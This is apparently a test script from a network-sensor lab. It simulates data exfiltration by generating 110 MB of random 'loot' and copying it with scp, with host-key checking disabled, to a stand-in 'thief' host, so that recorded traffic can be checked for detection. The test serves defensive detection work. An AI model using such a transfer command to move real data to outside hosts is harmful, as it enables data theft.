#!/bin/bash
# scp takes 110 MB from 10.20.0.66 to 203.0.113.66 while nothing is known of
# either: the sensor began to listen a few seconds ago. Segmentation offload is
# on; tcpdump keeps 96 bytes.
LAB_OFFLOAD=on
. "$(dirname "$0")/../../lab.sh"; lab
outside thief 203.0.113.66
outside sites 198.51.100.20
inside pcs 10.20.0.66
web sites 80
ssh_server thief
head -c 110000000 /dev/urandom >"$tmp/loot"
record router wan -s 96
for n in 1 2 3 4 5 6; do
	on pcs curl -s -m 5 -o /dev/null http://198.51.100.20/12.html
	sleep 1
done
on pcs scp -q -i "$tmp/key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$tmp/loot" root@203.0.113.66:/dev/null
recorded
